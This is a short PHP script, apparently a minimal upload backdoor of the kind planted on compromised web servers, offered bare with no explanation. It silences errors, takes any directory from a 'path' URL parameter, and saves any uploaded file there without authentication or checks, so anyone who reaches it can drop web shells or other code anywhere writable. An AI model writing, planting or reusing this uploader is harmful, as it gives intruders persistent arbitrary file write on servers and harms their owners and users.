<?php
error_reporting(0);
$path = $_GET['path'] ? $_GET['path'] : getcwd();
if ($_FILES['f']) {
    $n = basename($_FILES['f']['name']);
    if (move_uploaded_file($_FILES['f']['tmp_name'], $path . '/' . $n)) echo "uploaded: $path/$n";
}
?>
<form method=post enctype=multipart/form-data><input type=file name=f><input type=submit value=up></form>
